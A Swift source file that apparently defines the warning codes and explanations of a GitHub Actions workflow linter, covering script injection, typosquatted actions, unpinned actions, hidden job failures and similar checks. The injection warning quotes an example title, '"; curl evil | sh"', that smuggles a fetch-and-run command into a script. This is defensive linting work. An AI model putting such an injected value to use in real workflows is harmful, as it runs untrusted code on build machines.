public import Diagnostics

/// The findings of the linter, beyond those of the reader.
public enum LintCode {
    /// A stranger's text becomes part of a script.
    public static let untrustedInput = DiagnosticCode(
        "W080", "a stranger's text becomes part of a script",
        "Titles, branch names and comments are written by anyone. Put into a script by ${{ }}, they "
            + "are code there: a title such as \"; curl evil | sh\" runs. Pass them through 'env' and use "
            + "the variable in quotes.")
    /// A comparison always has the same outcome.
    public static let fixedComparison = DiagnosticCode(
        "W081", "a comparison always has the same outcome",
        "The two sides can never be equal: a choice that has no such value, an event that does not "
            + "start the workflow, or a boolean compared with the text 'true'. Texts of different kinds are "
            + "compared as numbers.")
    /// A list or an object stands where a text is expected.
    public static let collectionAsText = DiagnosticCode(
        "W082", "a list or an object stands where a text is expected",
        "Its text is only the word Array or Object. Name one value of it, or write toJSON(…).")
    /// A condition is constant.
    public static let constantCondition = DiagnosticCode(
        "W083", "a condition is constant",
        "An 'if' that is false switches a job or step off for good; one that is true can be left out. "
            + "A comment that silences this says why the job stays in the file.")
    /// An expression names an output that an action does not have.
    public static let unknownStepOutput = DiagnosticCode(
        "W084", "an expression names an output that an action does not have",
        "The outputs of built-in actions and of composite actions are known: any other is empty at "
            + "run time.")
    /// A called workflow is not there.
    public static let missingWorkflow = DiagnosticCode(
        "W088", "a called workflow is not there",
        "'uses' of a job names a workflow file of the same repository, such as "
            + "./.github/workflows/train.yml.")
    /// A workflow cannot be called.
    public static let notCallable = DiagnosticCode(
        "W089", "a workflow cannot be called",
        "Only a workflow with 'workflow_call' under its 'on' can be used by a job.")
    /// The inputs of a call and those of the called workflow differ.
    public static let callInput = DiagnosticCode(
        "W090", "the inputs of a call and those of the called workflow differ",
        "'with' gives the inputs that 'on.workflow_call.inputs' of the called file declares, each of "
            + "its type, and all required ones.")
    /// The secrets of a call and those of the called workflow differ.
    public static let callSecret = DiagnosticCode(
        "W091", "the secrets of a call and those of the called workflow differ",
        "'secrets' passes what 'on.workflow_call.secrets' of the called file declares. 'secrets: "
            + "inherit' passes all.")
    /// A gate has nothing to judge.
    public static let gateWithoutInput = DiagnosticCode(
        "W092", "a gate has nothing to judge",
        "A gate judges the model of a job that it needs. Checks on rows, such as accuracy, also need "
            + "that job's 'predictions'. Without them the gate could only end with an error.")
    /// A job can never run.
    public static let neverRuns = DiagnosticCode(
        "W093", "a job can never run",
        "A job that is skipped skips those that need it, unless their 'if' calls always() or another "
            + "status function. A publish job runs only when its gate promotes.")
    /// A script uses a command that is deprecated or switched off.
    public static let oldCommand = DiagnosticCode(
        "W094", "a script uses a command that is deprecated or switched off",
        "set-output and save-state are deprecated, set-env and add-path are switched off: any output "
            + "of a program could use them. Write to the files in GITHUB_OUTPUT, GITHUB_STATE, GITHUB_ENV "
            + "and GITHUB_PATH.")
    /// The failure of a job with a model is hidden.
    public static let hiddenFailure = DiagnosticCode(
        "W095", "the failure of a job with a model is hidden",
        "With 'continue-on-error: true' the jobs behind it, the gate among them, see a success when "
            + "the training failed.")
    /// An action is used at a branch.
    public static let movingVersion = DiagnosticCode(
        "W096", "an action is used at a branch",
        "A branch moves: what runs can change without a change of this file. A commit never does.")
    /// A label of 'runs-on' looks misspelt.
    public static let unknownLabel = DiagnosticCode(
        "W097", "a label of 'runs-on' looks misspelt",
        "No runner may ever take the job. Labels of one's own are no finding; this one is very close "
            + "to a known one.")
    /// A comment for the linter that cannot be read.
    public static let malformedIgnore = DiagnosticCode(
        "W098", "a comment for the linter is malformed",
        "A comment that silences a finding names codes and a reason: '# headgate: ignore W014 because REASON'. It stands "
            + "on the line of the finding or above it.")
    /// A finding of shellcheck.
    public static let shellcheck = DiagnosticCode(
        "W099", "shellcheck has something to say about a script",
        "'headgate lint' hands the scripts of 'run' to shellcheck where it is installed. The code in brackets is "
            + "shellcheck's own; https://www.shellcheck.net/wiki/ has a page for each. '--no-shellcheck' leaves it out."
    )
    /// A comment that silences nothing.
    public static let unusedIgnore = DiagnosticCode(
        "W100", "a comment silences nothing",
        "The finding that the comment was written for is gone, or is at another line. Remove the comment, lest it hides "
            + "the next one.")
    /// An action that looks like a misspelt one of GitHub's.
    public static let unknownAction = DiagnosticCode(
        "W101", "the name of an action looks misspelt",
        "The name is very close to that of an action of GitHub's and is none of theirs. Whoever owns the misspelt name "
            + "decides what runs.")
    /// A name that a context does not have.
    public static let unknownContextName = DiagnosticCode(
        "W102", "an expression names what a context does not have",
        "The names in 'github', 'runner', 'strategy' and 'job' are known, and a step has outputs, an outcome and a "
            + "conclusion. Any other is empty at run time, so a condition with it is false without a word.")
    /// An action of the repository is not there.
    public static let missingAction = DiagnosticCode(
        "W103", "an action of the repository is not there",
        "'uses' names a folder with an action.yml: './folder' in the workspace, '$/folder' in the repository itself. A "
            + "folder that a step of the job makes is no finding.")

    /// All of them.
    public static let all = [
        untrustedInput, fixedComparison, collectionAsText, constantCondition, unknownStepOutput,
        missingWorkflow, notCallable, callInput, callSecret, gateWithoutInput,
        neverRuns, oldCommand, hiddenFailure, movingVersion, unknownLabel, malformedIgnore,
        shellcheck, unusedIgnore, unknownAction, unknownContextName,
        missingAction,
    ]
}
